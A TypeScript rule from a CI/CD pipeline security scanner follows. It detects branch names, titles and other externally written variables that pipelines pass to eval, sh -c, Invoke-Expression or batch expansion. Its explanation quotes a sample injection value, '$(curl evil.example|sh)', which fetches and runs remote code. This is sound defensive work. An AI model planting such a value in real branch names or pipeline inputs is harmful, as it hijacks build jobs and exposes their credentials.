import type { Script } from '#pipeline/model.ts';
import type { Repository } from '#pipeline/repository.ts';
import type { ForeignValue, JobSurface } from '#pipeline/surface.ts';
import { findEntry } from '#pipeline/yaml/access.ts';
import type { Rule } from '../../rule.ts';
import { describeCredentials } from '../../shared/surface-credentials.ts';
import { attackOf } from '../../shared/surface-exposure.ts';
import {
  nameJob,
  placeOfJob,
  scriptsOf,
  surfaceJobs,
  surfacePlatforms,
  type SurfaceScript,
} from '../../shared/surface-jobs.ts';
import { batchReparsesOf, copiesIn, type Reparse, reparsesOf } from '../../shared/surface-reparse.ts';
import { type Candidate, reportWorst } from '../../shared/surface-report.ts';
import { judgeValue, nameValue, nameWriter } from '../../shared/surface-values.ts';

interface Found {
  readonly variable: string;
  readonly value: ForeignValue;
}

/** PowerShell and Windows do not tell capitals from small letters. */
function findForeign(names: readonly string[], surface: JobSurface, script: Script): Found | undefined {
  const { foreignVariables } = surface;
  for (const variable of names) {
    const origin = copiesIn(script).get(variable) ?? variable;
    const value = foreignVariables.get(origin) ?? foreignVariables.get(origin.toUpperCase());
    if (value !== undefined) return { variable, value };
  }
  return undefined;
}

/** `script:` of Azure is a batch file where the machine is one of Windows. */
function isBatch({ job, step, script }: SurfaceScript): boolean {
  const { runner, pipeline } = job;
  if (pipeline.platform !== 'azure' || script.shell !== undefined || runner === undefined) return false;
  const isOwnKey = findEntry(step.node, 'script')?.value === script.text.node;
  return (
    isOwnKey &&
    runner.labels.length > 0 &&
    runner.labels.every(({ value }) => /^(?:windows|vs20)/i.test(value))
  );
}

function toCandidate(at: SurfaceScript, reparse: Reparse, { variable, value }: Found): Candidate {
  const { job, surface, script } = at;
  const { exposure, ...verdict } = judgeValue(value, surface);
  const attack = verdict.persona === 'regular' ? attackOf(at, exposure) : undefined;
  const held = exposure.reach === 'full' ? describeCredentials(surface, job.pipeline.platform) : undefined;
  const place = { source: script.text.source, span: script.text.span(reparse.start, reparse.end) };
  const begins = exposure.start === undefined ? [] : [{ label: exposure.start.what, ...placeOfJob(job) }];
  return {
    ...place,
    report: {
      ...verdict,
      message: `${nameWriter(value)} ${nameValue(value)}, and ${reparse.sink} runs $${variable} as code in ${nameJob(job)}${held === undefined ? '' : `, which has ${held}`}`,
      ...(attack === undefined
        ? {}
        : { attack, path: [...begins, { label: `${reparse.sink} reads $${variable} as code`, ...place }] }),
      key: `${job.id} ${reparse.sink} ${variable}`,
    },
  };
}

function findExecutions(repository: Repository): Candidate[] {
  return surfaceJobs(repository).flatMap((job) => {
    if (job.surface.foreignVariables.size === 0) return [];
    return scriptsOf(job).flatMap((at) =>
      (isBatch(at) ? batchReparsesOf(at.script) : reparsesOf(at.script)).flatMap((reparse) => {
        const found = findForeign(reparse.variables, at.surface, at.script);
        return found === undefined ? [] : [toCandidate(at, reparse, found)];
      }),
    );
  });
}

export const rule: Rule = {
  id: 'foreign-variable-execution',
  title: 'A variable that others write is run as code',
  severity: 'high',
  confidence: 'high',
  persona: 'regular',
  platforms: surfacePlatforms,
  standards: { cicdSec: ['CICD-SEC-4'], cwe: ['CWE-78', 'CWE-95'], cis: ['2.3.1'] },
  description:
    'Looks for variables with names of branches, titles, messages and parameters inside of commands that read their argument as code: `eval`, `sh -c "…"`, `python -c "…"`, `ssh host "…"`, `echo … | sh`, `Invoke-Expression`, and `%NAME%` in scripts of the command interpreter of Windows.',
  why: 'A variable in quotes is only a value, until a command takes it for code. Then a branch or a title like `$(curl evil.example|sh)` is a command, with everything that the job can read.',
  remedy:
    'Hand the value over as an argument instead of as code: `sh -c \'echo "$1"\' _ "$TITLE"`, `ssh host deploy "$(printf %q "$BRANCH")"`, in PowerShell `& deploy $env:BRANCH`.',
  references: [
    'https://www.gnu.org/software/bash/manual/html_node/Bourne-Shell-Builtins.html',
    'https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution',
  ],
  aliases: [],

  repository(repository, context) {
    reportWorst(findExecutions(repository), rule, context);
  },
};
